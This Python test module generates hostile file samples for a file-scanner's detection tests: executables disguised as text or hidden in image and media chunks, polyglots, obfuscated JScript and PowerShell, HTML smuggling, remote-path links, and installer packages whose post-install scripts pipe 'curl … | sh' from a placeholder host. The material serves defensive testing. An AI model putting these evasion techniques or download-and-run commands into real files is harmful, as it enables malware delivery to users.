"""What was missed when the inspection was examined a second time: the same techniques in spellings and places that few think of."""

import base64
import gzip
import zlib

from tests.samples.archives import iso_of, tar_of
from tests.samples.disk_files import fixed_vhd
from tests.samples.documents import ole1, package, packaged, rich_text, word_fields
from tests.samples.files import box, chunk, elf, gif, jpeg, mp4, pdf, pe, png, shortcut, wav, zip_of
from tests.samples.hostile.cases import Case, Severity, single
from tests.samples.packages import rpm_of, xar_of

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
SYSTEM = "C:\\Windows\\System32\\"
LINES = b"#!/bin/sh\ntail -n +4 $0 | tar xz\nexit\n"
FETCHING = b"import os\nos.system('curl -s https://files.example.net/a | sh')\n"
LINK = shortcut(SYSTEM + "cmd.exe", "/c start /min tool.dat")


def cases() -> list[Case]:
    """Programs spelt as text, hidden in parts that viewers skip, veiled scripts, rare links, packages, and deep nesting."""
    return [*_spelt(), *_in_skipped_parts(), *_veiled(), *_links(), *_packages(), *_pages(), *_nested()]


def _spelt() -> list[Case]:
    program = pe()
    texts = [
        ("root.cer.txt", b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(program) + b"-----END CERTIFICATE-----\n"),
        ("notes.txt", base64.b64encode(program)),
        ("numbers.txt", program.hex().encode()),
        ("table.csv", ",".join(f"0x{byte:02x}" for byte in program).encode()),
        ("photo.b64", base64.encodebytes(elf() + bytes(500))),
    ]
    return [single("program spelt as text", name, body, "executable.disguised", "rules.match") for name, body in texts]


def _in_skipped_parts() -> list[Case]:
    program, packed = pe(), zip_of({"setup.exe": pe()})
    hosts = [
        ("a.png", png(chunk(b"miNe", program))),
        ("b.jpg", jpeg(b"\xff\xed" + (len(program) + 2).to_bytes(2) + program)),
        ("c.jpg", jpeg(b"\xff\xe9" + (len(packed) + 6).to_bytes(2) + b"map\0" + packed)),
        ("d.mp4", mp4() + box(b"skip", program)),
        ("e.wav", wav() + b"LIST" + len(program).to_bytes(4, "little") + program),
    ]
    cases = [single("program in a part that viewers skip", name, body, "type.polyglot", "type.appended-data") for name, body in hosts]
    before = b"<html><head><hta:application/><script language='jscript'>x</script></head></html>\n" + pdf()
    return [
        *cases,
        single("two kinds at once", "Plan.pdf", before, "type.polyglot", least=HIGH),
        single("two kinds at once", "Logo.gif", b"GIF89a/*" + gif()[6:] + b"*/=1;x()", "type.polyglot"),
    ]


def _veiled() -> list[Case]:
    spelt = "".join(f"\\x{ord(letter):02x}" for letter in "WScript.Shell")
    scripts = [
        ("a.js", f'var q=["{spelt}"];var a=new ActiveXObject(q[0]);a["R"+"un"]("calc")'.encode()),
        ("b.bat", b"@echo off\r\nset p=power\r\nset s=shell\r\n%p%%s% -noni -w 1 -ec SQBFAFgAIAAxAA==\r\n"),
        (
            "c.ps1",
            b'$ExecutionContext.InvokeCommand.InvokeScript([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("MQ==")))',
        ),
        ("d.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://files.example.net/a')".encode("utf-16")),
        ("e.js", 'new ActiveXObject("WScript.Shell").Run("calc")'.encode("utf-16")),
        ("f.lua", b'os.execute("wget -qO- https://files.example.net/a | sh")\n'),
        ("g.ahk", b"Run, powershell -w hidden -c calc,,Hide\n"),
    ]
    return [single("script in an unusual spelling", name, body, "script.obfuscated", "script.present") for name, body in scripts]


def _links() -> list[Case]:
    files = [
        ("desktop.ini", f"[.ShellClassInfo]\r\nLocalizedResourceName=@\\\\{HOST}\\s\\r.dll,-1\r\n".encode("utf-16"), HIGH),
        (
            "Find.search-ms",
            f'<persistedQuery><query><scope><include path="\\\\{HOST}\\s"/></scope></query></persistedQuery>'.encode(),
            MEDIUM,
        ),
        ("Agenda.ics", f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH:file://{HOST}/s/a.wav\r\nEND:VEVENT\r\n".encode(), MEDIUM),
        ("Share.desktop", f"[Desktop Entry]\nType=Link\nName=Photos\nURL=smb://{HOST}/photos\n".encode(), HIGH),
    ]
    commands = [shortcut(SYSTEM + "ftp.exe", "-s:list.txt"), shortcut(SYSTEM + "OpenSSH\\ssh.exe", '-o ProxyCommand="calc" .')]
    return [
        *(
            single("link to a program or foreign machine", name, body, "autorun.remote-icon", "shortcut.remote", least=least)
            for name, body, least in files
        ),
        *(single("shortcut: command", f"Tool {n}.lnk", body, "shortcut.command", least=HIGH) for n, body in enumerate(commands)),
    ]


def _packages() -> list[Case]:
    script = b"#!/bin/sh\ncurl -s https://files.example.net/a | sh\n"
    project = (
        b"<Project><UsingTask TaskName='A' TaskFactory='RoslynCodeTaskFactory'><Task><Code Type='Class'/></Task></UsingTask></Project>"
    )
    return [
        single("set-up package", "tool.rpm", rpm_of(gzip.compress(b"", mtime=0), {"postin": script}), "script.present"),
        single(
            "set-up package", "Tool.pkg", xar_of({"Scripts/postinstall": ("application/x-gzip", zlib.compress(script))}), "script.present"
        ),
        single(
            "set-up package",
            "helper.crx",
            b"Cr24\3\0\0\0\4\0\0\0abcd" + zip_of({"manifest.json": b"{}"}),
            "executable.app-package",
            least=LOW,
        ),
        single("launcher of a rare kind", "Plan.csproj", project, "rules.match"),
    ]


def _pages() -> list[Case]:
    packed = base64.b64encode(zip_of({"a.exe": pe()}) * 2).decode()
    hidden = f'<script>var b=new Blob([atob("{packed}")]);a.href=URL.createObjectURL(b);a.click()</script>'
    percent = "".join(f"%{byte:02X}" if not chr(byte).isalnum() else chr(byte) for byte in hidden.encode())
    backwards = (
        f"var r='{packed[::-1]}'.split('').reverse().join('');fetch('data:;base64,'+r).then(x=>x.blob());a.setAttribute('download','a')"
    )
    entity = b"<!DOCTYPE svg [<!ENTITY s '&#60;script>x()&#60;/script>']><svg xmlns='http://www.w3.org/2000/svg'>&s;</svg>"
    drawing = "<svg xmlns='http://www.w3.org/2000/svg'><script>eval(x)</script></svg>"
    return [
        single("page that carries a file", "a.html", f"<script>document.write(unescape('{percent}'))</script>".encode(), "html.smuggling"),
        single("page that carries a file", "b.html", f"<html><script>{backwards}</script></html>".encode(), "html.smuggling"),
        single("drawing with a script", "a.svg", entity, "svg.script"),
        single("drawing with a script", "b.svg", drawing.encode("utf-16"), "svg.script", least=HIGH),
        single("drawing with a script", "c.jpg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>", "svg.script"),
    ]


def _nested() -> list[Case]:
    object_data = ole1("Package", packaged("offer.exe", pe())).hex()
    broken = "".join(object_data[at : at + 14] + "{\\*\\fed}\r\n" for at in range(0, len(object_data), 14))
    field = word_fields(" INCLUDE", f'TEXT "\\\\\\\\{HOST}\\\\s\\\\a.txt" ')
    disk = fixed_vhd(iso_of({"DOCS.ZIP": zip_of({"Invoice.pdf.lnk": LINK})}))
    return [
        single(
            "program packed inside", "Offer.doc", rich_text("{\\object\\objemb{\\*\\objdata " + broken + "}}"), "office.embedded-object"
        ),
        single(
            "program packed inside", "install.run", LINES + gzip.compress(tar_of({"x": elf()}), mtime=0), "executable.present", least=LOW
        ),
        single(
            "script in an unusual spelling", "tool.pyz", b"#!/usr/bin/env python3\n" + zip_of({"__main__.py": FETCHING}), "script.present"
        ),
        single("office: add-in", "tool.ppam", package("pptx"), "office.addin"),
        single(
            "office: template or object from elsewhere", "Plan.docx", package("docx", {"word/header1.xml": field}), "office.remote-template"
        ),
        single("shortcut: command", "Backup.vhd", disk, "shortcut.command", least=HIGH),
        single("shortcut: command", "a.gz", gzip.compress(tar_of({"x/Readme.lnk": LINK}), mtime=0), "shortcut.command", least=HIGH),
        Case(
            kind="archive: tells its password",
            files={"Docs.zip": _locked(), "Password.txt": b"1234\n"},
            expected=("archive.password-beside",),
            least=LOW,
        ),
        single("name: invisible characters", "a.pdf\u2028.exe", pe(), "name.invisible-character"),
    ]


def _locked() -> bytes:
    """A zip whose member says that it is encrypted."""
    body = bytearray(zip_of({"a.txt": b"hello"}))
    body[6] |= 1
    body[body.index(b"PK\1\2") + 8] |= 1
    return bytes(body)
